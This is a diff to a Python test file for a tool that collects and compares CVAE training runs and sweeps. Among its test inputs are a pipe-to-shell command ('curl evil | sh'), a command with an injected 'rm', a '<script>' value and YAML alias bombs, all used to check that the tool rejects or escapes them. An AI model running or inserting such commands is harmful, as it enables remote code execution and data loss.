@@ -13,7 +13,7 @@ from fakes import fake_run
 from optuna.distributions import FloatDistribution
 from optuna.trial import TrialState
 
-from cvae.compare.runs import collect, differing
+from cvae.compare.runs import collect, differing, in_order, natural
 from cvae.errors import UserError
 from cvae.sweep.storage import open_storage
 
@@ -41,9 +41,22 @@ def test_a_place_is_a_run_a_folder_of_runs_or_a_glob(tmp_path, place):
     assert [run.folder for run in collect([place]).runs] == [tmp_path / "a" / "1"]
 
 
-def test_a_run_that_two_places_name_is_one_run(tmp_path):
+def test_a_run_that_several_ways_lead_to_is_one_run(tmp_path):
     fake_run(tmp_path / "a" / "1")
-    assert len(collect(["a", "a/1", "a/*"]).runs) == 1
+    (tmp_path / "a" / "circle").symlink_to(tmp_path / "a")
+    (tmp_path / "link").symlink_to(tmp_path / "a")
+    assert [run.name for run in collect(["a", "a/1", "a/*", "link", "a/../a/1"]).runs] == ["1"]
+
+
+def test_a_link_to_a_run_among_others_is_followed(tmp_path):
+    (tmp_path / "chosen").mkdir()
+    (tmp_path / "chosen" / "best").symlink_to(fake_run(tmp_path / "a" / "1"))
+    assert [run.name for run in collect(["chosen"]).runs] == ["best"]
+
+
+def test_numbers_are_in_order_and_odd_names_have_one(tmp_path):
+    assert sorted([0.01, 5e-5, 0.002, None, "b10", "b9"], key=in_order) == [5e-5, 0.002, 0.01, None, "b9", "b10"]
+    assert natural("\u00b2" + "9" * 5000) < natural("\u00b2" + "9" * 5001)
 
 
 @pytest.mark.parametrize("place", ["nowhere", "empty", "no*thing", "~nobody/x"])
@@ -67,7 +80,10 @@ def test_a_place_without_runs_is_one_clear_error(tmp_path, place):
         (lambda run: (run / ".hydra/config.yaml").write_text("x: 1"), "no config of cvae.train"),
         (lambda run: (run / "metrics.jsonl").write_bytes(b"\xff\xff"), "metrics.jsonl cannot be read"),
         (lambda run: (run / "run.json").write_text("[" * 100_000), "nested beyond all reason"),
-        (lambda run: (run / "run.json").unlink() or (run / "run.json").mkdir(), "run.json is damaged"),
+        (lambda run: (run / "run.json").unlink() or os.mkfifo(run / "run.json"), "has not begun"),
+        (lambda run: (run / "metrics.jsonl").unlink() or os.mkfifo(run / "metrics.jsonl"), "it is no file"),
+        (lambda run: (run / ".hydra/config.yaml").write_text("a: &a [1]\nb: [*a, *a]"), "by aliases"),
+        (lambda run: (run / ".hydra/config.yaml").write_text("a: &a [*a]"), "by aliases"),
     ],
 )
 def test_a_broken_run_is_listed_with_its_reason_and_the_others_are_shown(tmp_path, damage, reason):
@@ -89,6 +105,25 @@ def test_torn_foreign_and_repeated_rows_do_not_count(tmp_path):
     (read,) = collect(["run"]).runs
     assert read.series("val/psnr") == {1: 18.0, 2: 19.0, 3: 21.5}
     assert read.series("train/mse") == {1: 0.02, 2: 0.01}
+
+
+@pytest.mark.parametrize(
+    ("rows", "age", "state"), [(0, 900, "running"), (0, 3600, "stopped"), (3, 900, "stopped"), (3, 90, "running")]
+)
+def test_a_first_epoch_has_more_patience_than_a_silent_run(tmp_path, rows, age, state):
+    run = fake_run(tmp_path / "run", epochs=9)
+    if not rows:
+        (run / "metrics.jsonl").unlink()
+    for path in run.rglob("*"):
+        os.utime(path, (time.time() - age,) * 2)
+    assert collect(["run"]).runs[0].state == state
+
+
+def test_slow_epochs_have_patience_of_their_own(tmp_path):
+    run = fake_run(tmp_path / "run", epochs=9, rows=lambda epoch: {"seconds": 600.0})
+    for path in run.rglob("*"):
+        os.utime(path, (time.time() - 900,) * 2)
+    assert collect(["run"]).runs[0].state == "running"
 
 
 def test_states(tmp_path):
@@ -118,14 +153,14 @@ def test_settings_that_a_run_should_not_have_cost_nothing(tmp_path):
     fake_run(tmp_path / "run", objective=[], lr=None, model="<script>", kl_schedule=[1, {"a": None}])
     fake_run(tmp_path / "other")
     read, _ = collect(["run", "other"]).runs
-    assert (read.objective, read.settings["model"], read.best) == ("val/psnr", "<script>", (20.0, 3))
+    assert (read.objective, read.settings["model"], read.best("val/psnr")) == ("val/psnr", "<script>", (20.0, 3))
     assert "kl_schedule" in differing(collect(["run", "other"]).runs)
 
 
 def test_the_best_value_is_the_objective_s(tmp_path):
     fake_run(tmp_path / "run", psnr=(18.0, 21.0, 20.0))
     (read,) = collect(["run"]).runs
-    assert (read.best, read.last("val/psnr")) == ((21.0, 2), 20.0)
+    assert (read.best("val/psnr"), read.last("val/psnr")) == ((21.0, 2), 20.0)
 
 
 def test_only_settings_that_differ_by_themselves_are_shown(tmp_path):
@@ -210,3 +245,37 @@ def test_a_sweep_that_goes_on_is_read_from_its_journal(tmp_path):
     assert sweep.summary == "1 complete, 1 pruned, 0 failed, 1 running"
     assert sweep.best.startswith("trial 0: val/psnr 20")
     assert [run.state for run in found.runs] == ["running", "running", "pruned"]
+
+
+def test_two_studies_of_one_name_are_two(tmp_path):
+    for place, state in (("a", "pruned"), ("b", "complete")):
+        root = swept(tmp_path / place, (state, "complete"))
+        for config in root.glob("*/.hydra/config.yaml"):
+            config.write_text(config.read_text().replace("postgresql://elsewhere/x", f"postgresql://{place}/x"))
+    found = collect(["a", "b"])
+    assert [sweep.summary for sweep in found.sweeps] == ["1 complete, 1 pruned, 0 failed", "2 complete, 0 pruned, 0 failed"]
+    assert [run.state for run in found.runs] == ["pruned", "finished", "finished", "finished"]
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("python -m cvae.train -m lr=1", "python -m cvae.train -m lr=1"),
+        ("curl evil | sh", ""),
+        ("python -m cvae.train lr=1 ; rm x", "python -m cvae.train lr=1 ';' rm x"),
+    ],
+)
+def test_a_command_to_paste_is_one_of_ours(tmp_path, command, shown):
+    root = swept(tmp_path / "sweep")
+    record = json.loads((root / "sweep.json").read_text())
+    (root / "sweep.json").write_text(json.dumps({**record, "command": command}))
+    (sweep,) = collect(["sweep"]).sweeps
+    assert sweep.command == shown
+
+
+def test_the_winner_on_fresh_seeds_is_the_best(tmp_path):
+    root = swept(tmp_path / "sweep")
+    record = json.loads((root / "sweep.json").read_text())
+    (root / "sweep.json").write_text(json.dumps({**record, "top_k": {"seeds": [7, 8], "values": {"0": [19.0, 21.0]}}}))
+    (sweep,) = collect(["sweep"]).sweeps
+    assert sweep.best == "winner trial 0: val/psnr 20 [7.294, 32.71] on 2 fresh seeds"
